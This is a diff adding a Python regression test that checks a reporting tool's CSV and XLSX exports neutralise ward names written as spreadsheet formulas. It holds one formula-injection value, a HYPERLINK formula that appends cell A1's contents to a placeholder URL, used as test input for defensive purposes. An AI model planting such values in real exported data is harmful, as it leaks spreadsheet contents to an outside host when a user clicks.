@@ -238,3 +238,28 @@ def test_a_hub_whose_connections_are_all_held_answers_503_soon():
             for cm in held:
                 cm.__exit__(None, None, None)
         assert client.get("/healthz").status_code == 200
+
+
+def test_ward_names_are_not_formulas_in_the_reports():
+    """A ward named '=HYPERLINK(…)' (the hub operator's text) was a live formula in the monthly
+    report's XLSX (openpyxl writes a string starting with '=' as a formula) and a bare one in its
+    CSV; both now carry it as text, as the ward's own reports do (centre.reports.csv_safe)."""
+    import csv as csv_module
+    import io
+
+    import openpyxl
+
+    from province import report
+    from province.queries import parse_period
+
+    dsn = new_database()
+    migrate(dsn)
+    name = '=HYPERLINK("http://x.invalid/?"&A1,"Mở")'
+    with psycopg.connect(dsn, autocommit=True) as c:
+        add_centre(c, "w9", name)
+        rep = report.build(c, parse_period("2026-10"), None)
+    rows = list(csv_module.reader(io.StringIO(report.to_csv(rep).decode("utf-8-sig"))))
+    assert ["'" + name] == [r[0] for r in rows if name in r[0]]
+    sheet = openpyxl.load_workbook(io.BytesIO(report.to_xlsx(rep)))["Bao cao"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and name in cell.value]
+    assert cells and all(cell.data_type == "s" and cell.value == "'" + name for cell in cells)
